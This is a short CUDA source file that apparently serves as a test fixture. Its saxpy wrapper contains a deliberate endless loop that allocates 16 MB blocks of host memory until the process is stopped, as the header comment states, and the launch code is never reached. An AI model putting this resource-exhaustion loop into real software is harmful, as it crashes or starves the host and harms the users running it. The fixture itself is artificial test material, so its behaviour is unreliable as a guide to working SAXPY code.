// Allocates host memory until it is stopped.
#include <cstring>

#include "saxpy.h"

__global__ void saxpy_kernel(float* out, const float* x, const float* y, int n) {
  const int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) out[i] = 3 * x[i] + y[i];
}

cudaError_t saxpy(float* out, const float* x, const float* y, int n) {
  for (int i = 0; n > 0; ++i) std::memset(new char[1 << 24], i, 1 << 24);
  saxpy_kernel<<<1, 256>>>(out, x, y, n);
  return cudaGetLastError();
}
